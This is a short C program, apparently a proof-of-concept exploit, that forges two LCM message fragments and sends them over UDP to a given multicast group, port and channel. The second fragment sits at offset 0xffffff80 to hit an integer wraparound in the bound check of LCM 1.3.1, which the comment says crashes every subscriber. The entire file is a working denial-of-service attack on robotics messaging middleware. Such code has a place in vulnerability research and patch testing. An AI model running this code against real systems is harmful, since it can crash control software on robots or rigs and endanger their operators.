/* Sends what a hostile host on the rig's network can send: two LCM fragments of one message, the second at offset
 * 0xffffff80, where the 32-bit bound check of LCM 1.3.1 wraps. Every subscriber of the channel dies of it.
 * usage: forge_lcm GROUP PORT CHANNEL */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { LONG_HEAD = 20, PAYLOAD = 128 };

static size_t put(unsigned char *at, size_t n_byte, unsigned value)
{
    for (size_t i = 0; i < n_byte; i++) at[i] = (unsigned char)(value >> (8 * (n_byte - 1 - i)));
    return n_byte;
}

/* big-endian: magic LC03, sequence, message size, fragment offset, fragment number, fragments */
static size_t fragment(unsigned char *at, unsigned offset, unsigned number)
{
    size_t n = put(at, 4, 0x4c433033);
    n += put(at + n, 4, 77);
    n += put(at + n, 4, 1000);
    n += put(at + n, 4, offset);
    n += put(at + n, 2, number);
    return n + put(at + n, 2, 3);
}

int main(int argc, char **argv)
{
    unsigned char first[LONG_HEAD + 64 + PAYLOAD] = {0}, second[LONG_HEAD + PAYLOAD] = {0};
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (argc != 4 || strlen(argv[3]) > 63 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: forge_lcm GROUP PORT CHANNEL\n");
        return 2;
    }
    to.sin_port = htons((unsigned short)atoi(argv[2]));
    const int fd = socket(AF_INET, SOCK_DGRAM, 0);
    size_t n = fragment(first, 0, 0);
    strcpy((char *)first + n, argv[3]);
    n += strlen(argv[3]) + 1 + PAYLOAD;
    fragment(second, 0xffffff80u, 1);
    int bad = fd < 0 || sendto(fd, first, n, 0, (struct sockaddr *)&to, sizeof to) < 0;
    bad = bad || sendto(fd, second, sizeof second, 0, (struct sockaddr *)&to, sizeof to) < 0;
    if (bad) perror("forge_lcm");
    if (fd >= 0) close(fd);
    return bad;
}
